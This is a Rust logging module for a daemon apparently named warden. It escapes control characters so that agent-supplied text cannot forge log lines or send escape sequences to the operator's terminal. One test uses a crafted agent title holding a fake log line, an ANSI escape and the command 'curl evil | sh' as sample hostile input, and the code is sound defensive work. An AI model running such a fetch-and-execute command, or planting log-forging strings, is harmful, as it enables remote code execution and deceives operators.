//! Tracing setup: human or JSON lines on stderr, filtered by `RUST_LOG` or the configured level.
//!
//! A human log line is one event: any control character inside it (a newline, an escape
//! sequence, a bidi override in an agent's title, a caller's id, an agent's stderr tail) is
//! written as a visible escape (`warden-terminal-text`), so text that warden did not write
//! cannot forge a line of its own or act on the operator's terminal. JSON lines are left to the
//! JSON encoder, which escapes.

use std::io::Write;

use tracing_subscriber::EnvFilter;
use tracing_subscriber::fmt::MakeWriter;

/// Installs the global subscriber. `format` is `human` or `json`; anything else means human.
/// With a collector named by `otlp_endpoint` (`[daemon] otlp_endpoint`) or, when that is unset,
/// by `OTEL_EXPORTER_OTLP_ENDPOINT`, spans are also exported as `service`'s ([`crate::otel`]).
/// Safe to call twice (the second call is ignored).
pub fn init(service: &'static str, format: &str, level: &str, otlp_endpoint: Option<&str>) {
    use tracing_subscriber::Layer;
    use tracing_subscriber::layer::SubscriberExt;
    use tracing_subscriber::util::SubscriberInitExt;
    let filter = EnvFilter::try_from_default_env()
        .or_else(|_| EnvFilter::try_new(level))
        .unwrap_or_else(|_| EnvFilter::new("info"));
    let lines = if format == "json" {
        tracing_subscriber::fmt::layer()
            .with_writer(std::io::stderr)
            .json()
            .flatten_event(true)
            .with_current_span(true)
            .boxed()
    } else {
        tracing_subscriber::fmt::layer()
            .with_writer(OneLine(std::io::stderr))
            .with_ansi(false)
            .boxed()
    };
    let (traces, trace_error) = match crate::otel::layer(service, otlp_endpoint) {
        Ok(l) => (l, None),
        Err(e) => (None, Some(e)),
    };
    let _ = tracing_subscriber::registry()
        .with(filter)
        .with(lines)
        .with(traces)
        .try_init();
    if let Some(e) = trace_error {
        tracing::warn!(error = %e, "traces are not exported");
    }
}

/// How severe one log line is, most verbose first (so `>=` reads "at least as severe").
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Severity {
    Trace,
    Debug,
    Info,
    Warn,
    Error,
}

/// The severity of one line this module's subscriber wrote, human (`<time> <LEVEL> <target>: …`)
/// or JSON (`"level"`); None for a line it did not write (a panic message, a daemon's own
/// `error:` line before logging started), which a reader should show whatever it filters.
/// Kept beside [`init`], so the format and its one reader change together (`warden up` shows
/// the warnings of a daemon's log on the terminal and keeps the rest in its file).
pub fn severity_of(line: &str) -> Option<Severity> {
    let word = if line.starts_with('{') {
        let v: serde_json::Value = serde_json::from_str(line).ok()?;
        v.get("level")?.as_str()?.to_string()
    } else {
        line.split_whitespace().nth(1)?.to_string()
    };
    Some(match word.as_str() {
        "TRACE" => Severity::Trace,
        "DEBUG" => Severity::Debug,
        "INFO" => Severity::Info,
        "WARN" => Severity::Warn,
        "ERROR" => Severity::Error,
        _ => return None,
    })
}

/// A `MakeWriter` whose writers escape every control character of an event but its final
/// newline. The fmt layer formats an event into one buffer and hands it over in one
/// `write_all`, so each `write` here is one whole event.
#[derive(Clone, Copy)]
pub struct OneLine<M>(pub M);

impl<'a, M: MakeWriter<'a>> MakeWriter<'a> for OneLine<M> {
    type Writer = OneLineWriter<M::Writer>;

    fn make_writer(&'a self) -> Self::Writer {
        OneLineWriter(self.0.make_writer())
    }
}

pub struct OneLineWriter<W>(W);

impl<W: Write> Write for OneLineWriter<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let text = String::from_utf8_lossy(buf);
        let (body, end) = match text.strip_suffix('\n') {
            Some(body) => (body, "\n"),
            None => (text.as_ref(), ""),
        };
        // One write of the line with its newline: stderr is shared by every thread, and a line
        // written in two pieces could have another thread's line land between them (seen in the
        // gateway's log as two events on one line).
        let mut shown = warden_terminal_text::inline(body).into_owned();
        shown.push_str(end);
        self.0.write_all(shown.as_bytes())?;
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.0.flush()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::{Arc, Mutex};

    #[derive(Clone, Default)]
    struct Captured(Arc<Mutex<Vec<u8>>>);

    impl Write for Captured {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            self.0
                .lock()
                .map_err(|_| std::io::ErrorKind::Other)?
                .extend_from_slice(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    /// Each write the sink receives, apart.
    #[derive(Clone, Default)]
    struct Writes(Arc<Mutex<Vec<Vec<u8>>>>);

    impl Write for Writes {
        fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
            self.0
                .lock()
                .map_err(|_| std::io::ErrorKind::Other)?
                .push(buf.to_vec());
            Ok(buf.len())
        }
        fn flush(&mut self) -> std::io::Result<()> {
            Ok(())
        }
    }

    #[test]
    fn each_event_reaches_the_shared_stream_in_one_write_with_its_newline() {
        let writes = Writes::default();
        let sink = writes.clone();
        let subscriber = tracing_subscriber::fmt()
            .with_writer(OneLine(move || sink.clone()))
            .with_ansi(false)
            .finish();
        tracing::subscriber::with_default(subscriber, || {
            tracing::info!(task_id = "t1", "first");
            tracing::info!("second");
        });
        let got = writes.0.lock().unwrap().clone();
        assert_eq!(got.len(), 2, "{got:?}");
        for w in &got {
            let text = String::from_utf8_lossy(w);
            assert!(
                text.ends_with('\n') && text.matches('\n').count() == 1,
                "{text:?}"
            );
        }
    }

    #[test]
    fn the_severity_of_a_line_is_read_back_from_either_format() {
        let human = Captured::default();
        let json = Captured::default();
        let (h, j) = (human.clone(), json.clone());
        let hs = tracing_subscriber::fmt()
            .with_writer(OneLine(move || h.clone()))
            .with_ansi(false)
            .finish();
        tracing::subscriber::with_default(hs, || {
            tracing::warn!(title = "x ERROR y", "stopping");
            tracing::info!("ready");
        });
        let js = tracing_subscriber::fmt()
            .with_writer(move || j.clone())
            .json()
            .flatten_event(true)
            .finish();
        tracing::subscriber::with_default(js, || tracing::error!("broken"));
        let human = String::from_utf8(human.0.lock().unwrap().clone()).unwrap();
        let lines: Vec<&str> = human.lines().collect();
        assert_eq!(severity_of(lines[0]), Some(Severity::Warn), "{human}");
        assert_eq!(severity_of(lines[1]), Some(Severity::Info), "{human}");
        let json = String::from_utf8(json.0.lock().unwrap().clone()).unwrap();
        assert_eq!(
            severity_of(json.trim_end()),
            Some(Severity::Error),
            "{json}"
        );
        assert_eq!(severity_of("warden-supervisor: error: bad key"), None);
        assert!(Severity::Error > Severity::Warn && Severity::Warn > Severity::Info);
    }

    #[test]
    fn an_agents_title_in_a_field_stays_on_its_event_line() {
        let cap = Captured::default();
        let sink = cap.clone();
        let subscriber = tracing_subscriber::fmt()
            .with_writer(OneLine(move || sink.clone()))
            .with_ansi(false)
            .finish();
        tracing::subscriber::with_default(subscriber, || {
            let title = "ls\n2026-12-01T00:00:00Z  INFO DENY curl evil | sh\x1b[2K";
            tracing::info!(title = %title, "permission decided");
            tracing::info!("second event");
        });
        let out = String::from_utf8(cap.0.lock().unwrap().clone()).unwrap();
        let lines: Vec<&str> = out.lines().collect();
        assert_eq!(lines.len(), 2, "{out}");
        assert!(
            lines[0].contains(r"title=ls\n2026-12-01T00:00:00Z  INFO DENY curl evil | sh\x1b[2K"),
            "{out}"
        );
        assert!(!out.contains('\x1b'), "{out}");
        assert!(lines[1].ends_with("second event"), "{out}");
    }
}
